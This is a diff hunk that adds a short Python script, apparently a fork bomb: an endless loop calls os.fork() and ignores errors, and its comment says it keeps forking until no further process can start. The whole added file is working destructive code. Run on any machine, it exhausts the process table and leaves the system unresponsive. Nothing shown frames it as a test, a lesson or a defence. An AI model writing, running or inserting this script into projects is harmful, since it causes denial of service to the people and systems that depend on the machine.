@@ -1,0 +1,8 @@
+# Forks until nothing can be started any more.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
